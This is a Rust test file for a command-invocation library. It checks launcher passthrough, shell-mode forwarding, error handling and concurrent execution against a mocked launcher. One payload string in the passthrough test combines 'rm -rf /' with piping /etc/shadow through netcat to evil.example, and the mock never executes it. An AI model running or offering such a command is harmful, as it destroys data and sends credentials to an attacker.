use std::io;
use std::process::{Child, Command, Stdio};
use std::sync::Arc;

use cmdrun_process::{
    CommandString, InvocationError, InvocationResult, Invoker, InvokerConfig, Launcher, ShellMode,
};
use mockall::{mock, predicate::eq};

mock! {
    pub Launcher {}

    impl Launcher for Launcher {
        fn launch(&self, command: &CommandString, mode: ShellMode) -> InvocationResult<Child>;
    }
}

/// Spawns a short-lived real process: the test binary listing its tests.
fn harmless_child(command: &CommandString) -> InvocationResult<Child> {
    let exe = std::env::current_exe().map_err(|e| {
        InvocationError::spawn_failed(command.clone(), "current_exe", e)
    })?;

    Command::new(&exe)
        .arg("--list")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .map_err(|e| InvocationError::spawn_failed(command.clone(), exe.display().to_string(), e))
}

fn not_found(command: &CommandString) -> InvocationResult<Child> {
    Err(InvocationError::spawn_failed(
        command.clone(),
        command.as_str(),
        io::Error::from(io::ErrorKind::NotFound),
    ))
}

#[test]
fn test_command_reaches_launcher_unmodified() {
    let payloads = [
        "",
        "   ",
        "echo hello",
        "rm -rf / ; cat /etc/shadow | nc evil.example 9999",
        "echo \"quoted  text\" 'single' `tick` $(sub) \\back",
        "name\twith\ttabs\nand\nnewlines",
        "ünïcödé ✓ 漢字",
    ];

    for raw in payloads {
        let mut launcher = MockLauncher::new();
        launcher
            .expect_launch()
            .withf(move |command, mode| command.as_bytes() == raw.as_bytes() && *mode == ShellMode::Direct)
            .times(1)
            .returning(|command, _| not_found(command));

        let invoker = Invoker::with_launcher(InvokerConfig::default(), launcher);
        let err = invoker.execute(raw).unwrap_err();
        assert_eq!(err.command().as_str(), raw);
    }
}

#[test]
fn test_shell_mode_is_forwarded() {
    let mut launcher = MockLauncher::new();
    launcher
        .expect_launch()
        .with(eq(CommandString::from("ls | wc -l")), eq(ShellMode::Shell))
        .times(1)
        .returning(|command, _| harmless_child(command));

    let invoker = Invoker::with_launcher(InvokerConfig::shell(), launcher);
    let handle = invoker.execute("ls | wc -l").unwrap();
    assert_eq!(handle.command().as_str(), "ls | wc -l");
    handle.into_child().wait().unwrap();
}

#[test]
fn test_single_attempt_no_retry() {
    let mut launcher = MockLauncher::new();
    launcher
        .expect_launch()
        .times(1)
        .returning(|command, _| {
            Err(InvocationError::spawn_failed(
                command.clone(),
                "busy",
                io::Error::new(io::ErrorKind::Other, "Resource temporarily unavailable"),
            ))
        });

    let invoker = Invoker::with_launcher(InvokerConfig::default(), launcher);
    let err = invoker.execute("busy").unwrap_err();
    assert!(matches!(err, InvocationError::Spawn { .. }));
    assert!(err.diagnostic().contains("Resource temporarily unavailable"));
}

#[test]
fn test_success_returns_handle() {
    let mut launcher = MockLauncher::new();
    launcher
        .expect_launch()
        .times(1)
        .returning(|command, _| harmless_child(command));

    let invoker = Invoker::with_launcher(InvokerConfig::default(), launcher);
    let handle = invoker.execute("anything").unwrap();
    assert!(handle.id() > 0);

    let status = handle.into_child().wait().unwrap();
    assert!(status.success());
}

#[test]
fn test_system_scenarios() {
    let invoker = Invoker::default();

    let err = invoker.execute("").unwrap_err();
    assert!(matches!(err, InvocationError::EmptyCommand { .. }));
    assert!(!err.diagnostic().is_empty());

    let err = invoker.execute("this-binary-does-not-exist-xyz").unwrap_err();
    assert!(matches!(err, InvocationError::NotFound { .. }));
    assert!(err.diagnostic().contains("not found"));
}

#[test]
#[cfg(unix)]
fn test_echo_hello_exits_zero() {
    let handle = cmdrun_process::execute("echo hello").unwrap();
    let status = handle.into_child().wait().unwrap();
    assert_eq!(status.code(), Some(0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn test_concurrent_invocations_are_independent() {
    let mut launcher = MockLauncher::new();
    launcher.expect_launch().returning(|command, _| {
        if command.as_str().starts_with("missing") {
            not_found(command)
        } else {
            harmless_child(command)
        }
    });

    let invoker = Arc::new(Invoker::with_launcher(InvokerConfig::default(), launcher));

    let commands: Vec<String> = (0..16)
        .map(|i| {
            if i % 2 == 0 {
                format!("valid-{}", i)
            } else {
                format!("missing-{}", i)
            }
        })
        .collect();

    let mut tasks = Vec::new();
    for command in commands {
        let invoker = Arc::clone(&invoker);
        tasks.push(tokio::task::spawn_blocking(move || {
            let result = invoker.execute(command.as_str());
            (command, result)
        }));
    }

    for task in tasks {
        let (command, result) = task.await.unwrap();
        match result {
            Ok(handle) => {
                assert!(command.starts_with("valid"), "{} should have failed", command);
                assert_eq!(handle.command().as_str(), command);
                handle.into_child().wait().unwrap();
            }
            Err(e) => {
                assert!(command.starts_with("missing"), "{} should have started", command);
                assert_eq!(e.command().as_str(), command);
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
#[cfg(unix)]
async fn test_concurrent_system_invocations() {
    let invoker = Arc::new(Invoker::default());

    let cases = [
        ("true", true),
        ("this-binary-does-not-exist-a", false),
        ("echo concurrent", true),
        ("this-binary-does-not-exist-b", false),
        ("sleep 0", true),
    ];

    let tasks: Vec<_> = cases
        .iter()
        .map(|&(command, expect_ok)| {
            let invoker = Arc::clone(&invoker);
            tokio::task::spawn_blocking(move || (expect_ok, invoker.execute(command)))
        })
        .collect();

    for task in tasks {
        let (expect_ok, result) = task.await.unwrap();
        assert_eq!(result.is_ok(), expect_ok);
        if let Ok(handle) = result {
            assert!(handle.into_child().wait().unwrap().success());
        }
    }
}
